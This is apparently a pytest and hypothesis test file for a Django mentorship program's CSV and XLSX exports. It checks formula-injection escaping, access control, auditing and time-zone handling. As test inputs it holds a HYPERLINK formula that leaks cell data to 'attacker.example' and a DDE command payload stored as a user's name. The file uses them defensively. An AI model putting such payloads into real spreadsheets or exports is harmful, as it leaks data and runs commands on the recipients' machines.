"""Program exports: structure only, formula injection neutralised (property
tested on CSV and XLSX), for the program's admins and HR, audited."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from mentorship.audit.models import AuditEvent
from mentorship.checkins.services import ActionItemSpec, checkin_log
from mentorship.core.timezones import today_for
from mentorship.insights.cells import FORMULA_STARTS, escape, unescape
from mentorship.insights.exports import DATASETS, csv_chunks, write_xlsx, xlsx_text
from mentorship.pairings.models import REPLACED_BY_MATCHING, PairingSource, PairingStatus
from tests.factories import PairingFactory
from tests.fixtures.personas import Personas
from tests.helpers import assert_constant_queries

DANGEROUS = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'"])
# Text that often starts like a formula, and sometimes is one.
CELL_TEXT = st.one_of(
    st.text(),
    st.builds(lambda start, rest: start + rest, DANGEROUS, st.text()),
    st.just('=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'),
)


@given(CELL_TEXT)
def test_an_escaped_cell_never_starts_like_a_formula(text: str) -> None:
    escaped = escape(text)
    assert isinstance(escaped, str)
    assert not escaped.startswith(FORMULA_STARTS)
    assert unescape(escaped) == text


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.none()))
def test_numbers_and_blanks_are_left_alone(value: Any) -> None:
    assert escape(value) == value


@given(st.lists(st.lists(CELL_TEXT, min_size=1, max_size=4), max_size=8))
def test_csv_cells_read_back_as_text_that_cannot_run(rows: list[list[str]]) -> None:
    body = "".join(csv_chunks(["a", "b", "c", "d"], rows)).removeprefix("\ufeff")
    read = list(csv.reader(io.StringIO(body, newline="")))

    assert read[0] == ["a", "b", "c", "d"]
    assert len(read) == len(rows) + 1
    for written, got in zip(rows, read[1:], strict=True):
        assert [unescape(cell) for cell in got] == written
        assert not any(cell.startswith(FORMULA_STARTS) for cell in got)


@settings(max_examples=40, deadline=None)
@given(st.lists(st.lists(CELL_TEXT, min_size=1, max_size=3), min_size=1, max_size=5))
def test_xlsx_cells_are_text_never_formulas(rows: list[list[str]]) -> None:
    sheet = load_workbook(write_xlsx(["a", "b", "c"], rows, title="t")).active
    assert sheet is not None
    read = list(sheet.iter_rows(min_row=2))

    for written, got in zip(rows, read, strict=True):
        for text, cell in zip(written, got, strict=False):
            if text == "":
                continue  # an empty string is an empty cell
            assert cell.data_type == "s", (text, cell.data_type)
            assert not str(cell.value).startswith(FORMULA_STARTS)
            assert unescape(cell.value) == xlsx_text(text)


def signed_in(person: Any) -> Client:
    client = Client()
    client.force_login(person)
    return client


def download(client: Client, personas: Personas, dataset: str, fmt: str = "csv") -> Any:
    return client.get(f"/programs/{personas.program.pk}/exports/{dataset}.{fmt}")


def csv_rows(response: Any) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode().removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(body, newline="")))


@pytest.mark.django_db
def test_exports_hold_structure_and_never_text(personas: Personas) -> None:
    personas.mentee.full_name = "=cmd|' /C calc'!A0"
    personas.mentee.save()
    checkin_log(
        pairing=personas.pairing,
        by=personas.mentee,
        occurred_on=today_for(personas.mentee),
        duration_minutes=35,
        kind="call",
        shared_notes="SHARED-TEXT",
        private_note="PRIVATE-TEXT",
        confidence_pulse=4,
        action_items=[ActionItemSpec(text="ITEM-TEXT", owner=personas.mentee)],
    )
    client = signed_in(personas.program_admin)

    pairings = csv_rows(download(client, personas, "pairings"))
    assert pairings[0] == DATASETS["pairings"].header
    assert len(pairings) == 1 + 2
    mine = next(row for row in pairings if row[0] == str(personas.pairing.pk))
    assert mine[1] == "'=cmd|' /C calc'!A0"
    assert mine[13:] == ["1", today_for(personas.mentee).isoformat()]

    checkins = csv_rows(download(client, personas, "check-ins"))
    assert checkins[1][4:] == [today_for(personas.mentee).isoformat(), "35", "Call", "", "mentee"]
    milestones = csv_rows(download(client, personas, "milestones"))
    assert len(milestones) == 1 + personas.pairing.milestones.count() * 2

    for dataset in DATASETS:
        for fmt in ("csv", "xlsx"):
            response = download(client, personas, dataset, fmt)
            assert response.status_code == 200
            body = b"".join(response.streaming_content)
            for secret in (b"SHARED-TEXT", b"PRIVATE-TEXT", b"ITEM-TEXT"):
                assert secret not in body
    assert AuditEvent.objects.filter(action="export.downloaded").count() == 3 + 6


@pytest.mark.django_db
def test_a_proposal_replaced_by_a_new_run_is_not_exported_as_declined(
    personas: Personas,
) -> None:
    """Running matching again replaces the proposals waiting for approval:
    nobody declined them, and they are no pairing either."""
    replaced = PairingFactory.create(
        program=personas.program,
        status=PairingStatus.DECLINED,
        source=PairingSource.MATCHING,
        close_reason=REPLACED_BY_MATCHING,
    )
    declined = PairingFactory.create(
        program=personas.program,
        status=PairingStatus.DECLINED,
        source=PairingSource.MATCHING,
        close_reason="Not a good fit.",
    )

    rows = csv_rows(download(signed_in(personas.hr), personas, "pairings"))

    ids = {row[0] for row in rows[1:]}
    assert str(replaced.pk) not in ids
    assert str(declined.pk) in ids
    assert next(row for row in rows if row[0] == str(declined.pk))[6] == "Declined"


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("persona", "status"),
    [
        ("hr", 200),
        ("program_admin", 200),
        ("mentor", 404),
        ("mentee", 404),
        ("line_manager", 404),
        ("outsider", 404),
    ],
)
def test_only_those_who_run_the_program_export_it(
    personas: Personas, persona: str, status: int
) -> None:
    client = signed_in(getattr(personas, persona))
    assert client.get(f"/programs/{personas.program.pk}/exports/").status_code == status
    assert download(client, personas, "pairings").status_code == status
    assert download(client, personas, "pairings", "xlsx").status_code == status


@pytest.mark.django_db
def test_unknown_datasets_and_formats_are_not_found(personas: Personas) -> None:
    client = signed_in(personas.hr)
    assert download(client, personas, "notes").status_code == 404
    assert download(client, personas, "pairings", "pdf").status_code == 404
    assert Client().get(f"/programs/{personas.program.pk}/exports/").status_code == 302


@pytest.mark.django_db
def test_a_check_in_export_runs_the_same_queries_for_1_and_50_rows(personas: Personas) -> None:
    from mentorship.checkins.selectors import plan_competencies

    client = signed_in(personas.hr)

    def grow(n: int) -> None:
        for _ in range(n):
            checkin_log(
                pairing=personas.pairing,
                by=personas.mentor,
                occurred_on=today_for(personas.mentor),
                duration_minutes=30,
                topics=plan_competencies(personas.pairing),
            )

    # The rows are read while the response streams, so the action reads them all.
    assert_constant_queries(
        lambda: csv_rows(download(client, personas, "check-ins")), grow, served=len, at_most=12
    )


@pytest.mark.django_db
@pytest.mark.clock("2027-03-01T10:30:00Z")
@pytest.mark.parametrize(
    ("zone", "completed"),
    [
        # 10:30 UTC: already 2 March on Kiritimati, still 28 February on Pago Pago.
        ("Pacific/Kiritimati", "2027-03-02T00:30:00+14:00"),
        ("Pacific/Pago_Pago", "2027-02-28T23:30:00-11:00"),
    ],
)
def test_timestamps_are_exported_with_their_offset_in_the_exporters_zone(
    personas: Personas, zone: str, completed: str
) -> None:
    import datetime as dt

    from mentorship.pairings.services.milestones import milestone_complete

    milestone = personas.pairing.milestones.get(title="First 1:1s")
    milestone_complete(milestone=milestone, by=personas.mentee)
    personas.program_admin.time_zone = zone
    personas.program_admin.save()
    client = signed_in(personas.program_admin)
    header = DATASETS["milestones"].header
    at, due = header.index("completed at"), header.index("due on")

    rows = csv_rows(download(client, personas, "milestones"))
    row = next(r for r in rows[1:] if r[header.index("milestone")] == "First 1:1s")
    assert row[at] == completed
    assert row[due] == milestone.due_on.isoformat()  # a date stays a date

    response = download(client, personas, "milestones", "xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet is not None
    cells = next(
        r for r in sheet.iter_rows(min_row=2) if r[header.index("milestone")].value == "First 1:1s"
    )
    assert (cells[at].value, cells[at].data_type) == (completed, "s")
    assert cells[due].value == dt.datetime.combine(milestone.due_on, dt.time())
    assert cells[due].data_type == "d"  # a date cell
